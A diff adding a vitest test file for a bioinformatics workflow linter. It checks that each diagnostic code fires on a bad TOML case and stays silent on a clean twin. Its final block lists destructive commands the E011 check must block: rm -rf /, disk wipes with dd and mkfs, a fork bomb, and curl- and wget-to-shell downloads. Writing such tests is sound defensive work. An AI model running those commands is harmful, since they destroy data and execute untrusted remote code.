@@ -1,0 +1,138 @@
+// Every workflow code: a text that fires it (at the expected line) and a clean twin that must not.
+import { describe, expect, it } from 'vitest';
+import { codes } from '../../../src/diagnostics/registry.js';
+import { diagnose, quietRule, wf } from '../../helpers/workflow-text.js';
+
+interface Case {
+  code: string;
+  name: string;
+  fires: string;
+  line?: number;
+  clean: string;
+}
+
+const rule = (fields: string) => quietRule('r', fields);
+
+const cases: Case[] = [
+  { code: 'E000', name: 'TOML syntax error', fires: '[workflow\nname = "x"\n', line: 1, clean: wf('') },
+  { code: 'E001', name: 'empty name', fires: '[workflow]\nname = ""\n', line: 2, clean: '[workflow]\nname = "x"\n' },
+  { code: 'E002', name: 'bad rule name', fires: wf(rule('').replace('name = "r"', 'name = "a b"')), clean: wf(rule('')) },
+  { code: 'E002', name: 'outputs without a command', fires: wf(rule('output = ["o.txt"]')), line: 10, clean: wf(rule('output = ["o.txt"]\nshell = "touch {output}"')) },
+  { code: 'E002', name: 'threads = 0', fires: wf(rule('threads = 0')), line: 10, clean: wf(rule('threads = 1')) },
+  { code: 'E002', name: 'duplicate rule name', fires: wf(rule('') + quietRule('r', '')), line: 14, clean: wf(rule('') + quietRule('s', '')) },
+  {
+    code: 'E003',
+    name: 'output wildcard not in inputs',
+    fires: wf(rule('input = ["all.txt"]\noutput = ["out/{sample}.txt"]\nshell = "x"'), 'name = "t"\ndescription = "d"\nauthor = "a"\nsample_pattern = "raw/{sample}.fq"'),
+    line: 12,
+    clean: wf(rule('input = ["raw/{sample}.fq"]\noutput = ["out/{sample}.txt"]\nshell = "x"'), 'name = "t"\ndescription = "d"\nauthor = "a"\nsample_pattern = "raw/{sample}.fq"'),
+  },
+  { code: 'E004', name: 'bad memory', fires: wf(rule('memory = "lots"')), line: 10, clean: wf(rule('memory = "8GB"')) },
+  { code: 'E004', name: 'float memory', fires: wf(rule('[rules.resources]\nmemory = "1.5G"')), clean: wf(rule('[rules.resources]\nmemory = 2048')) },
+  {
+    code: 'E005',
+    name: 'undefined {config.k}',
+    fires: wf('[config]\nreference = "r.fa"\n' + rule('output = ["o"]\nshell = "bwa {config.refernce} > {output}"')),
+    line: 13,
+    clean: wf('[config]\nreference = "r.fa"\n' + rule('output = ["o"]\nshell = "bwa {config.reference} > {output}"')),
+  },
+  { code: 'E005', name: 'undefined config.k in when', fires: wf(rule('when = "config.run_qc"')), line: 10, clean: wf('[config]\nrun_qc = true\n' + rule('when = "config.run_qc"')) },
+  {
+    code: 'E005',
+    name: 'undefined values_from',
+    fires: wf(rule('output = ["o/{chr}"]\nshell = "x"\nscatter = { variable = "chr", values_from = "config.chroms" }')),
+    clean: wf('[config]\nchroms = ["1"]\n' + rule('output = ["o/{chr}"]\nshell = "x"\nscatter = { variable = "chr", values_from = "config.chroms" }')),
+  },
+  { code: 'E007', name: 'unknown depends_on', fires: wf(rule('depends_on = ["nope"]')), line: 10, clean: wf(quietRule('a', '') + rule('depends_on = ["a"]')) },
+  { code: 'E009', name: '.. in a path', fires: wf(rule('input = ["../data/x.txt"]')), line: 10, clean: wf(rule('input = ["data/x..txt"]')) },
+  { code: 'E011', name: 'rm -rf /', fires: wf(rule('shell = "rm -rf / "')), line: 10, clean: wf(rule('shell = "rm -rf tmp/"')) },
+  { code: 'E020', name: 'unknown key', fires: wf(rule('threds = 2')), line: 10, clean: wf(rule('threads = 2')) },
+  { code: 'E020', name: 'unknown table', fires: wf('[confg]\na = 1\n'), line: 6, clean: wf('[config]\na = 1\n') },
+  { code: 'E022', name: 'unparsable when', fires: wf('[config]\na = 1\n' + rule('when = "config.a >"')), line: 12, clean: wf('[config]\na = 1\n' + rule('when = "config.a > 0"')) },
+  {
+    code: 'E023',
+    name: 'two environments',
+    fires: wf('[[rules]]\nname = "r"\n[rules.environment]\nconda = "e.yml"\ndocker = "img"\n'),
+    line: 10,
+    clean: wf('[[rules]]\nname = "r"\n[rules.environment]\nconda = "e.yml"\n'),
+  },
+  { code: 'E024', name: 'wrong type', fires: wf(rule('threads = "8"')), line: 10, clean: wf(rule('threads = 8')) },
+  { code: 'E025', name: 'missing key', fires: wf('[[sample_groups]]\nsamples = ["a"]\n'), clean: wf('[[sample_groups]]\nname = "g"\nsamples = ["a"]\n') },
+];
+
+describe('workflow codes fire on their case and stay silent on the clean twin', () => {
+  it.each(cases)('$code: $name', ({ code, fires, clean, line }) => {
+    const found = diagnose(fires).filter((d) => d.code === code);
+    expect(found.length, JSON.stringify(diagnose(fires), null, 1)).toBeGreaterThanOrEqual(1);
+    if (line !== undefined) expect(found[0]!.line).toBe(line);
+    expect(found[0]!.message.length).toBeGreaterThan(10);
+    expect(diagnose(clean).filter((d) => d.code === code), JSON.stringify(diagnose(clean))).toEqual([]);
+  });
+
+  it('covers every E code in the workflow registry except the ones owned by dry-run and the DAG', () => {
+    const covered = new Set(cases.map((c) => c.code));
+    const expected = Object.keys(codes).filter((c) => /^E0\d\d$/.test(c) && c !== 'E006' && c !== 'E021');
+    expect(expected.filter((c) => !covered.has(c))).toEqual([]);
+  });
+});
+
+describe('messages and suggestions', () => {
+  it('E020 suggests the nearest key and E024 names the value', () => {
+    const d = diagnose(wf(rule('threds = 2\nretries = "3"')));
+    expect(d.find((x) => x.code === 'E020')?.message).toContain('did you mean "threads"?');
+    expect(d.find((x) => x.code === 'E024')?.message).toBe('rules[0] ("r").retries must be an integer, got string "3"');
+  });
+
+  it('E005 points at the placeholder inside the shell string and suggests the key', () => {
+    const text = wf('[config]\nreference = "r.fa"\n' + rule('shell = "bwa mem {config.refernce} x"'));
+    const d = diagnose(text).find((x) => x.code === 'E005')!;
+    expect(d.message).toBe('{config.refernce} is not defined in [config] (did you mean reference?)');
+    const line = text.split('\n')[d.line! - 1]!;
+    expect(line.slice(d.column! - 1)).toMatch(/^\{config\.refernce\}/);
+  });
+
+  it('E022 points at the offending column of the expression', () => {
+    const text = wf('[config]\na = 1\n' + rule('when = "config.a = 1"'));
+    const d = diagnose(text).find((x) => x.code === 'E022')!;
+    const line = text.split('\n')[d.line! - 1]!;
+    expect(line[d.column! - 1]).toBe('=');
+  });
+
+  it('a misspelt required key gives one E020, not an extra E025', () => {
+    const d = diagnose('[workflow]\nnmae = "x"\n');
+    expect(d.map((x) => x.code)).toEqual(['E020']);
+  });
+});
+
+describe('E011 blocks destructive commands and nothing else', () => {
+  const blocked = [
+    'rm -rf /',
+    'rm -rf ~',
+    'rm -fr /*',
+    'rm -r -f $HOME',
+    'sudo mkfs.ext4 /dev/sdb1',
+    'dd if=/dev/zero of=/dev/sda bs=1M',
+    'cat x > /dev/sda',
+    'chmod -R 777 /',
+    'curl -sSL https://example.org/install.sh | bash',
+    'wget -qO- http://x/y | sh',
+    'bash -c "$(curl -fsSL http://x/y)"',
+    ':(){ :|:& };:',
+  ];
+  const harmless = [
+    'rm -rf tmp/',
+    'rm -rf {output}.tmp',
+    'rm -f /tmp/x.txt',
+    'dd if=/dev/zero of=test.img bs=1M count=1',
+    'curl -o ref.fa.gz https://example.org/ref.fa.gz && gunzip ref.fa.gz',
+    'chmod 755 scripts/run.sh',
+    'samtools view {input} | bash_tool_wrapper',
+    'echo "${HOME}/x"',
+  ];
+  it.each(blocked)('blocks %s', (cmd) => {
+    expect(diagnose(wf(rule(`shell = ${JSON.stringify(cmd)}`))).some((d) => d.code === 'E011')).toBe(true);
+  });
+  it.each(harmless)('allows %s', (cmd) => {
+    expect(diagnose(wf(rule(`shell = ${JSON.stringify(cmd)}`))).filter((d) => d.code === 'E011')).toEqual([]);
+  });
+});
